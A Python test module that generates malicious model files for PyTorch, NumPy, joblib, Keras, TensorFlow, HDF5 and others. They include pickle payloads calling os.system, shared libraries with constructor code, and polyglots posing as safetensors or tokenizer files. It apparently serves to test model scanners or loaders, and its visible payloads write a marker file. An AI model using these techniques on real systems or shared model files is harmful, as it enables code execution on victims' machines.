# SPDX-License-Identifier: Apache-2.0
"""Archives of PyTorch, joblib, NumPy, Keras, TensorFlow and other frameworks."""

import io
import json
import pickle
import zipfile
from typing import Callable, Iterator

from cases import CODE, EXEC, SHELL, SYSTEM, Case, call, named, proto, text
from executing_pickles import tarred, zipped


class Payload:
    def __reduce__(self):
        import os

        return os.system, (SHELL,)


def torch_zip(data: bytes, **others: bytes) -> bytes:
    members = {"model/data.pkl": data, "model/version": b"3\n", "model/byteorder": b"little", **others}
    return zipped(members, zipfile.ZIP_STORED)


def torch_legacy(parts: list) -> bytes:
    return b"".join(part if isinstance(part, bytes) else pickle.dumps(part, 2) for part in parts)


MAGIC, SYS_INFO = 0x1950A86A20F9469CFC6C, {"protocol_version": 1001, "little_endian": True, "type_sizes": {}}
BAD = proto(SYSTEM)


def torch_cases() -> Iterator[Case]:
    def saved(name: str, make, load: str, needs=("torch",), known=False) -> Case:
        return Case(name, "PyTorch", lambda folder: make(folder), load, needs, known)

    def load(path: str) -> str:
        return f"import torch; torch.load(folder + '/{path}', weights_only=False)"

    def save(thing, path, **options):
        def make(folder):
            import torch

            torch.save(thing(torch), folder + "/" + path, **options)
        return make

    yield saved("torch_state_dict", save(lambda torch: {"w": torch.zeros(2), "x": Payload()}, "pytorch_model.bin"), load("pytorch_model.bin"), known=True)
    yield saved("torch_legacy", save(lambda torch: {"w": torch.zeros(2), "x": Payload()}, "model.pth", _use_new_zipfile_serialization=False), load("model.pth"))
    yield saved("torch_checkpoint", save(lambda torch: {"state_dict": {}, "hyper_parameters": Payload(), "pytorch-lightning_version": "2.0.0"}, "last.ckpt"), load("last.ckpt"))
    yield saved("torch_protocol_5", save(lambda torch: [Payload()], "model.pt", pickle_protocol=5), load("model.pt"))
    for number, place in enumerate(("magic", "protocol", "sys_info", "object", "keys")):
        parts = [MAGIC, 1001, SYS_INFO, {}, []]
        parts[number] = BAD
        yield Case("torch_legacy_" + place, "PyTorch", {"model.bin": torch_legacy(parts)}, load("model.bin"), ("torch",))
    yield Case("torch_persistent_id", "PyTorch", {"model.pt": torch_zip(proto(b"(" + text("storage") + EXEC + b"tQ"))}, load("model.pt"), ("torch",))
    yield Case("torch_byteorder_absent", "PyTorch", {"model.pt": zipped({"archive/data.pkl": BAD, "archive/version": b"3"}, zipfile.ZIP_STORED)}, load("model.pt"), ("torch",))
    yield Case("torch_deflated", "PyTorch", {"model.pt": zipped({"archive/data.pkl": BAD, "archive/version": b"3"})}, load("model.pt"), ("torch",))
    yield Case("torch_other_ending", "PyTorch", {"weights.gguf": torch_zip(BAD)}, load("weights.gguf"), ("torch",))
    yield Case("torch_no_crc", "PyTorch", {"model.pt": torch_zip(BAD).replace(zlib_crc(BAD), b"\0\0\0\0")}, load("model.pt"), ("torch",))
    twice = io.BytesIO()
    with zipfile.ZipFile(twice, "w") as archive:
        archive.writestr("m/data.pkl", pickle.dumps({}, 2))
        archive.writestr("m/version", b"3")
        archive.writestr("m/Data.pkl", BAD)
        archive.writestr("M/data.pkl", BAD)
    yield Case("torch_other_case_member", "PyTorch", {"model.pt": twice.getvalue()},
               "import zipfile, pickle; pickle.load(zipfile.ZipFile(folder + '/model.pt').open('M/data.pkl'))", ("torch",))

    def package(folder: str) -> None:
        import torch.package

        with torch.package.PackageExporter(folder + "/model.pt") as exporter:
            exporter.save_source_string("net", CODE + "\n")

    yield saved("torch_package", package, "import torch.package; torch.package.PackageImporter(folder + '/model.pt').import_module('net')")

    def package_pickle(folder: str) -> None:
        import torch.package

        with torch.package.PackageExporter(folder + "/model.pt") as exporter:
            exporter.extern("**")
            exporter.save_pickle("model", "model.pkl", Payload())

    yield saved("torch_package_pickle", package_pickle, "import torch.package; torch.package.PackageImporter(folder + '/model.pt').load_pickle('model', 'model.pkl')")

    def traced(folder: str) -> None:
        import torch

        class Net(torch.nn.Module):
            def forward(self, x):
                torch.save([x], "PWNED")
                return x

        torch.jit.script(Net()).save(folder + "/model.pt")

    yield saved("torchscript_forward", traced, "import torch; torch.jit.load(folder + '/model.pt')(torch.zeros(1))", known=True)

    def graph_module(folder: str) -> None:
        import torch

        torch.save(torch.fx.symbolic_trace(torch.nn.Linear(1, 1)), folder + "/model.pt")
        data = open(folder + "/model.pt", "rb").read()
        open(folder + "/model.pt", "wb").write(changed_member(data, "data.pkl", b"def forward", b"open('PWNED','w')\n"))

    yield saved("torch_graph_module", graph_module, "import torch; torch.load(folder + '/model.pt', weights_only=False)")
    yield Case("dcp_metadata", "PyTorch", {".metadata": BAD, "__0_0.distcp": b""},
               "import torch.distributed.checkpoint as c; c.FileSystemReader(folder).read_metadata()", ("torch",))
    yield Case("accelerate_random_states", "PyTorch", {"random_states_0.pkl": BAD, "custom_checkpoint_0.pkl": torch_zip(BAD)},
               "import torch; torch.load(folder + '/custom_checkpoint_0.pkl', weights_only=False)", ("torch",))
    yield Case("deepspeed_states", "PyTorch", {"global_step1/mp_rank_00_model_states.pt": torch_zip(BAD), "latest": "global_step1"},
               load("global_step1/mp_rank_00_model_states.pt"), ("torch",))
    yield Case("nemo", "archive", {"model.nemo": tarred({"model_config.yaml": b"target: x\n", "model_weights.ckpt": torch_zip(BAD)}, "gz")},
               "import tarfile, torch; tarfile.open(folder + '/model.nemo').extractall('x', filter='data'); torch.load('x/model_weights.ckpt', weights_only=False)", ("torch",))
    yield Case("torch_hub", "Python source", {"hubconf.py": CODE + "\ndef m(): pass\n"}, "import torch; torch.hub.load(folder, 'm', source='local')", ("torch",))
    yield Case("training_args", "PyTorch", {"training_args.bin": torch_zip(BAD), "config.json": "{}"}, load("training_args.bin"), ("torch",))


def zlib_crc(data: bytes) -> bytes:
    import zlib

    return zlib.crc32(data).to_bytes(4, "little")


def changed_member(data: bytes, ending: str, before: bytes, put: bytes) -> bytes:
    """A zip archive, in one of whose pickles a line stands before a line of a text."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            content = old.read(name)
            if name.endswith(ending):
                start = content.index(before)
                begin = content.rindex(b"X", 0, start)
                length = int.from_bytes(content[begin + 1 : begin + 5], "little") + len(put)
                content = content[: begin + 1] + length.to_bytes(4, "little") + content[begin + 5 : start] + put + content[start:]
            new.writestr(name, content)
    return out.getvalue()


def library(folder: str, name: str) -> None:
    """A shared library whose constructor is the payload."""
    import subprocess

    source = "#include <fcntl.h>\n__attribute__((constructor)) static void run(void) { open(\"PWNED\", O_CREAT | O_WRONLY, 0600); }\n"
    subprocess.run(["cc", "-shared", "-fPIC", "-x", "c", "-", "-o", f"{folder}/{name}"], input=source.encode(), check=True)


def libraries() -> Iterator[Case]:
    for name, path, load, needs in (
        ("ctypes", "libops.so", "import ctypes; ctypes.CDLL(folder + '/libops.so')", ()),
        ("torch_ops", "ops.so", "import torch; torch.ops.load_library(folder + '/ops.so')", ("torch",)),
        ("extension", "model.cpython-311-x86_64-linux-gnu.so", "import sys; sys.path.insert(0, folder); import model", ()),
        ("extension_abi3", "model.abi3.so", "import sys; sys.path.insert(0, folder); import model", ()),
        ("numpy", "ops.so", "import numpy; numpy.ctypeslib.load_library('ops', folder)", ("numpy",)),
        ("onnxruntime", "ops.so", "import onnxruntime; onnxruntime.SessionOptions().register_custom_ops_library(folder + '/ops.so')", ("onnxruntime",)),
        ("tensorflow", "ops.so", "import tensorflow as tf; tf.load_op_library(folder + '/ops.so')", ("tensorflow",)),
        ("other_ending", "weights.bin", "import ctypes; ctypes.CDLL(folder + '/weights.bin')", ()),
    ):
        yield Case("library_" + name, "shared library", lambda folder, path=path: library(folder, path), load, needs)

    def inductor(folder: str) -> None:
        library(folder, "x.so")
        data = open(folder + "/x.so", "rb").read()
        open(folder + "/model.pt2", "wb").write(zipped({"model/archive_format": b"pt2", "model/version": b"0", "model/byteorder": b"little", "model/.data/serialization_id": b"1",
                                                        "model/data/aotinductor/model/x.wrapper.so": data,
                                                        "model/data/aotinductor/model/x.wrapper_metadata.json": b'{"AOTI_DEVICE_KEY": "cpu"}'}, zipfile.ZIP_STORED))
        __import__("os").remove(folder + "/x.so")

    yield Case("library_in_pt2", "shared library", inductor, "import torch; torch._inductor.aoti_load_package(folder + '/model.pt2')", ("torch",))


def array_cases() -> Iterator[Case]:
    def header(descr: str, version: int = 1, shape: str = "()") -> bytes:
        line = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}"
        size = 2 if version == 1 else 4
        line += " " * (-(len(line) + 9 + size) % 64) + "\n"
        return b"\x93NUMPY" + bytes([version, 0]) + len(line).to_bytes(size, "little") + line.encode("utf-8" if version == 3 else "latin1")

    load = "import numpy; numpy.load(folder + '/{}', allow_pickle=True)"
    npz = "import numpy; z = numpy.load(folder + '/{}', allow_pickle=True); [z[k] for k in z.files]"
    for name, start in {
        "object": header("'|O'"), "version_2": header("'|O'", 2), "version_3": header("'|O'", 3), "native": header("'O'"), "long_name": header("'object'"),
        "bytes_8": header("'|O8'"), "sub_array": header("('|O', (1,))"), "field": header("[('a', '<f4'), ('b', '|O')]", shape="(1,)"),
        "title": header("[(('t', 'a'), 'O')]", shape="(1,)"), "nested_field": header("[('a', [('b', [('c', 'O')])])]", shape="(1,)"),
        "string_pieces": header("'|' 'O'"), "raw_escape": header("'|\\x4F'"), "comma_list": header("'f4,O'", shape="(1,)"),
        "double_quotes": header("'|O'").replace(b"'", b'"'), "duplicate_key": header("'<f4', 'descr': '|O'"), "empty_shape": header("'|O'", shape="(0,)"),
        "name_upper": header("'object_'"),
    }.items():
        yield Case("npy_" + name, "NumPy", {"x.npy": start + BAD}, load.format("x.npy"), ("numpy",), name in ("object", "raw_escape", "field"))
    two = io.BytesIO()
    two.write(header("'<f4'", shape="(1,)") + bytes(4) + header("'|O'") + BAD)
    yield Case("npy_second_array", "NumPy", {"x.npy": two.getvalue()}, "import numpy; f = open(folder + '/x.npy', 'rb'); numpy.load(f); numpy.load(f, allow_pickle=True)", ("numpy",))
    yield Case("npy_then_pickle", "NumPy", {"x.npy": header("'<f4'", shape="(1,)") + bytes(4) + BAD}, "import numpy, pickle; f = open(folder + '/x.npy', 'rb'); numpy.load(f); pickle.load(f)", ("numpy",))
    yield Case("npz_object", "NumPy", {"x.npz": zipped({"a.npy": header("'|O'") + BAD})}, npz.format("x.npz"), ("numpy",))
    yield Case("npz_second_member", "NumPy", {"x.npz": zipped({"a.npy": header("'<f4'", shape="(1,)") + bytes(4), "b.npy": header("'|O'") + BAD})}, npz.format("x.npz"), ("numpy",))
    yield Case("npz_in_folder", "NumPy", {"x.npz": zipped({"a/b.npy": header("'|O'") + BAD})}, npz.format("x.npz"), ("numpy",))
    yield Case("npz_named_npy", "NumPy", {"x.npy": zipped({"a.npy": header("'|O'") + BAD}, zipfile.ZIP_STORED)}, npz.format("x.npy"), ("numpy",))
    yield Case("npy_in_gz", "NumPy", {"x.npy.gz": __import__("gzip").compress(header("'|O'") + BAD)}, "import gzip, numpy; numpy.load(gzip.open(folder + '/x.npy.gz'), allow_pickle=True)", ("numpy",))


def joblib_cases() -> Iterator[Case]:
    def dumped(path: str, compress, thing=Payload):
        def make(folder):
            import joblib

            joblib.dump(thing(), f"{folder}/{path}", compress=compress)
        return make

    load = "import joblib; joblib.load(folder + '/{}')"
    for method in ("zlib", "gzip", "bz2", "xz", "lzma", "lz4"):
        yield Case("joblib_" + method, "joblib", dumped("model.joblib", (method, 3)), load.format("model.joblib"), ("joblib", "lz4") if method == "lz4" else ("joblib",), method == "zlib")
    yield Case("joblib_plain", "joblib", dumped("model.joblib", 0), load.format("model.joblib"), ("joblib",))

    def after_array():
        import numpy

        return [numpy.zeros(3), Payload()]

    yield Case("joblib_after_array", "joblib", dumped("model.pkl", 0, after_array), load.format("model.pkl"), ("joblib", "numpy"))

    def objects():
        import numpy

        return numpy.array([Payload(), 1], object)

    yield Case("joblib_object_array", "joblib", dumped("model.sav", 0, objects), load.format("model.sav"), ("joblib", "numpy"), True)

    def estimator():
        from sklearn.pipeline import make_pipeline
        from sklearn.preprocessing import FunctionTransformer

        return make_pipeline(FunctionTransformer(__import__("os").system))

    yield Case("sklearn_function", "joblib", dumped("model.joblib", 0, estimator), "import joblib; joblib.load(folder + '/model.joblib').transform('touch PWNED')", ("joblib", "sklearn"))

    def skops(folder):
        import skops.io

        skops.io.dump(estimator(), folder + "/model.skops")

    yield Case("skops_function", "skops", skops, "import skops.io as s; p = folder + '/model.skops'; s.load(p, trusted=s.get_untrusted_types(file=p)).transform('touch PWNED')", ("skops", "sklearn"))
    for name, module in (("cloudpickle", "cloudpickle"), ("dill", "dill")):
        def lambdas(folder, module=module):
            thing = __import__(module)
            made = type("Net", (), {"__reduce__": lambda self: ((lambda: open("PWNED", "w")), ())})
            open(folder + "/model.pkl", "wb").write(thing.dumps(made()))

        yield Case(name + "_lambda", "pickle", lambdas, f"import {module}; {module}.load(open(folder + '/model.pkl', 'rb'))", (module,))


def tables_and_others() -> Iterator[Case]:
    def hdf(folder):
        import tables

        with tables.open_file(folder + "/model.h5", "w") as file:
            file.create_group("/", "g")._v_attrs.config = {"a": Payload()}

    yield Case("hdf5_attribute", "HDF5", hdf, "import tables; tables.open_file(folder + '/model.h5').root.g._v_attrs.config", ("tables",))

    def hdf_array(folder):
        import tables

        with tables.open_file(folder + "/model.h5", "w") as file:
            file.create_vlarray("/", "a", tables.ObjectAtom()).append([Payload()])

    yield Case("hdf5_objects", "HDF5", hdf_array, "import tables; tables.open_file(folder + '/model.h5').root.a[0]", ("tables",))

    def frame(folder):
        import pandas

        pandas.DataFrame({"a": [1]}).to_hdf(folder + "/data.h5", key="d")
        import tables

        with tables.open_file(folder + "/data.h5", "a") as file:
            file.root.d._v_attrs.encoding = Payload()

    yield Case("hdf5_pandas", "HDF5", frame, "import pandas; pandas.read_hdf(folder + '/data.h5')", ("tables", "pandas"))

    def hickled(folder):
        import hickle

        hickle.dump({"a": Payload()}, folder + "/model.hkl")

    yield Case("hickle", "HDF5", hickled, "import hickle; hickle.load(folder + '/model.hkl')", ("hickle",), True)

    def keras_lambda(path):
        def make(folder):
            import keras

            model = keras.Sequential([keras.Input((1,)), keras.layers.Lambda(lambda x: (open("PWNED", "w"), x)[1], output_shape=(1,))])
            model.save(folder + "/" + path)
            if __import__("os").path.exists("PWNED"):
                __import__("os").remove("PWNED")
        return make

    keras = "import os; os.environ['KERAS_BACKEND'] = 'torch'\nimport keras, numpy; keras.models.load_model(folder + '/{}', safe_mode=False)(numpy.zeros((1, 1)))"
    for ending in ("keras", "h5"):
        yield Case("keras_lambda_" + ending, "Keras", keras_lambda("model." + ending), keras.format("model." + ending), ("torch", "keras"))

    def architecture(folder):
        keras_lambda("m.keras")(folder)
        config = zipfile.ZipFile(folder + "/m.keras").read("config.json")
        __import__("os").remove(folder + "/m.keras")
        open(folder + "/model.json", "wb").write(config)

    yield Case("keras_architecture", "Keras", architecture, "import keras, numpy; keras.config.enable_unsafe_deserialization(); "
               "keras.models.model_from_json(open(folder + '/model.json').read())(numpy.zeros((1, 1)))", ("torch", "keras"))
    for name, facts in {
        "function": {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"},
        "class": {"module": "logging", "class_name": "FileHandler", "config": {"filename": "PWNED"}, "registered_name": None},
    }.items():
        yield Case("keras_config_" + name, "Keras", {"model.json": json.dumps({"class_name": "Sequential", "module": "keras", "config": {"name": "m", "layers": [facts]}})},
                   "import keras; keras.config.enable_unsafe_deserialization(); keras.models.model_from_json(open(folder + '/model.json').read())", ("torch", "keras"))

    def saved_model(folder):
        import tensorflow as tf

        class Net(tf.Module):
            @tf.function(input_signature=[tf.TensorSpec([], tf.float32)])
            def __call__(self, x):
                tf.io.write_file("PWNED", "x")
                return x

        tf.saved_model.save(Net(), folder)

    yield Case("tensorflow_saved_model", "TensorFlow", saved_model, "import tensorflow as tf; tf.saved_model.load(folder)(0.)", ("tensorflow",))

    def graph(folder):
        import tensorflow as tf

        with tf.Graph().as_default() as g:
            tf.io.write_file("PWNED", "x", name="w")
        open(folder + "/frozen.pb", "wb").write(g.as_graph_def().SerializeToString())

    yield Case("tensorflow_frozen_graph", "TensorFlow", graph, "import tensorflow as tf; d = tf.compat.v1.GraphDef(); d.ParseFromString(open(folder + '/frozen.pb', 'rb').read());\n"
               "with tf.Graph().as_default() as g: tf.import_graph_def(d, name=''); tf.compat.v1.Session().run('w')", ("tensorflow",))

    def meta_graph(folder):
        import tensorflow as tf

        with tf.Graph().as_default():
            tf.io.write_file("PWNED", "x", name="w")
            tf.compat.v1.train.export_meta_graph(folder + "/model.ckpt.meta")

    yield Case("tensorflow_meta_graph", "TensorFlow", meta_graph, "import tensorflow as tf\nwith tf.Graph().as_default(): tf.compat.v1.train.import_meta_graph(folder + '/model.ckpt.meta'); "
               "tf.compat.v1.Session().run('w')", ("tensorflow",))
    yield Case("igraph_pickle", "pickle", {"graph.pickle": BAD}, "import igraph; igraph.Graph.Read_Pickle(folder + '/graph.pickle')", ("igraph",))
    yield Case("statsmodels", "pickle", {"fit.pickle": BAD}, "from statsmodels.iolib.smpickle import load_pickle; load_pickle(folder + '/fit.pickle')", ("statsmodels",))
    yield Case("sktime", "packed pickle", {"model.zip": zipped({"_metadata": BAD, "_obj": BAD})}, "from sktime.base import load; load(folder + '/model')", ("sktime",))
    yield Case("stable_baselines", "archive", {"model.zip": zipped({"data": json.dumps({"policy_class": {":type:": "x", ":serialized:": __import__("base64").b64encode(BAD).decode()}})})},
               "from stable_baselines3.common.save_util import load_from_zip_file; load_from_zip_file(folder + '/model.zip')", ("stable_baselines3",), True)
    yield Case("jax_executable", "pickle", {"compiled.bin": pickle.dumps(BAD)}, "import pickle; from jax.experimental.serialize_executable import deserialize_and_load;"
               " deserialize_and_load(pickle.load(open(folder + '/compiled.bin', 'rb')), None, None)", ("jax",), True)
    yield Case("ray_checkpoint", "pickle", {"algorithm_state.pkl": BAD, "rllib_checkpoint.json": "{}"}, "import ray.cloudpickle; ray.cloudpickle.load(open(folder + '/algorithm_state.pkl', 'rb'))", ("ray",))
    yield Case("gensim", "pickle", {"word2vec.model": BAD}, "import gensim; gensim.models.Word2Vec.load(folder + '/word2vec.model')", ("gensim",))

    def zarr_array(folder):
        import numcodecs
        import numpy
        import zarr

        z = zarr.open(folder + "/a.zarr", "w", shape=(1,), chunks=(1,), dtype=object, object_codec=numcodecs.Pickle())
        z[:] = numpy.array([Payload()], object)

    yield Case("zarr_objects", "archive", zarr_array, "import numcodecs.pickles as p; p.ALLOW_UNSAFE_PICKLE_DECODE = True; import zarr; zarr.open(folder + '/a.zarr', 'r')[:]", ("zarr", "numcodecs"), True)
    yield Case("named_only", "pickle", {"model.pkl": proto(named("projector:x")), "projector.py": CODE}, "import sys, pickle; sys.path.insert(0, folder); pickle.load(open(folder + '/model.pkl', 'rb'))")
    yield Case("load_in_load", "pickle", {"model.pkl": proto(call("numpy:load", call("builtins:open", "PWNED", "w")))}, "import pickle; pickle.load(open(folder + '/model.pkl', 'rb'))", ("numpy",))


def polyglots() -> Iterator[Case]:
    """Files that are sound data in one format and code in another."""
    def line(number: int) -> bytes:
        return bytes([number & 127 | 128]) + line(number >> 7) if number > 127 else bytes([number])

    def field(number: int, content: bytes) -> bytes:
        return line(number << 3 | 2) + line(len(content)) + content

    def tensor(size: int, length: int, last: str = " ") -> bytes:
        text = json.dumps({"a": {"dtype": "U8", "shape": [size], "data_offsets": [0, size]}})
        return length.to_bytes(8, "little") + (text.ljust(length - 1) + last).encode()

    # The length of the header is the opcode UNICODE, which ends with the line; the tensor is the rest of the pickle.
    pickled = tensor(len(SYSTEM) + 1, 0x156, "\n") + SYSTEM + b"."
    for path, load in (("pytorch_model.bin", "import torch; torch.load(folder + '/pytorch_model.bin', weights_only=False)"),
                       ("model.safetensors", "import pickle; pickle.load(open(folder + '/model.safetensors', 'rb'))")):
        yield Case("safetensors_pickle_" + path.split(".")[1], "polyglot", {path: pickled}, load, ("torch",) if path.endswith("bin") else ())
    app = zipped({"__main__.py": CODE})
    run = "import subprocess, sys; subprocess.run([sys.executable, folder + '/model.safetensors'])"
    yield Case("safetensors_zipapp", "polyglot", {"model.safetensors": tensor(len(app), 504) + app}, run)
    junk = b"A" * 15 + SYSTEM + b"."
    piece = field(1, field(1, b"<unk>") + b"\x15\0\0\0\0" + b"\x18\x02") + field(1, field(1, b"a") + b"\x15\0\0\0\0")
    yield Case("sentencepiece_pickle", "polyglot", {"tokenizer.model": b"\x8a\x10" + line(len(junk)) + junk + piece},
               "import pickle; pickle.load(open(folder + '/tokenizer.model', 'rb'))")

    def hdf(folder: str, path: str, array: bool) -> None:
        import tables

        with tables.open_file(folder + "/" + path, "w", user_block_size=512) as file:
            file.create_group("/", "g")._v_attrs.config = {"a": Payload()}
        with open(folder + "/" + path, "r+b") as file:
            size = file.seek(0, 2) - 512
            file.seek(0)
            text = f"{{'descr': '|u1', 'fortran_order': False, 'shape': ({size},), }}".ljust(501) + "\n"
            file.write(b"\x93NUMPY\1\0" + (502).to_bytes(2, "little") + text.encode() if array else tensor(size, 504))

    for name, array in (("safetensors", False), ("npy", True)):
        yield Case(f"{name}_hdf5", "polyglot", lambda folder, array=array: hdf(folder, "model.h5", array),
                   "import tables; tables.open_file(folder + '/model.h5').root.g._v_attrs.config", ("tables",))

    def saved_model(folder: str, before: Callable[[], bytes]) -> None:
        import shutil

        import tensorflow as tf
        from tensorflow.core.protobuf import saved_model_pb2

        with tf.Graph().as_default(), tf.compat.v1.Session() as session:
            builder = tf.compat.v1.saved_model.Builder(folder + "/m")
            builder.add_meta_graph_and_variables(session, ["serve"], main_op=tf.io.write_file("PWNED", "x"))
            builder.save()
        model = saved_model_pb2.SavedModel()
        model.ParseFromString(open(folder + "/m/saved_model.pb", "rb").read())
        shutil.rmtree(folder + "/m")
        open(folder + "/saved_model.pb", "wb").write(before() + field(2, model.meta_graphs[0].SerializeToString()))

    def onnx_model() -> bytes:
        from onnx import TensorProto, helper

        value = [helper.make_tensor_value_info(name, TensorProto.FLOAT, [4]) for name in "xy"]
        return helper.make_model(helper.make_graph([helper.make_node("Relu", ["x"], ["y"])], "g", value[:1], value[1:])).SerializeToString()

    for name, before in (("sentencepiece", lambda: piece), ("onnx", onnx_model)):
        yield Case(f"{name}_saved_model", "polyglot", lambda folder, before=before: saved_model(folder, before),
                   "import tensorflow as tf; tf.saved_model.load(folder)", ("tensorflow", "onnx"))


def cases() -> Iterator[Case]:
    yield from torch_cases()
    yield from libraries()
    yield from array_cases()
    yield from joblib_cases()
    yield from tables_and_others()
    yield from polyglots()
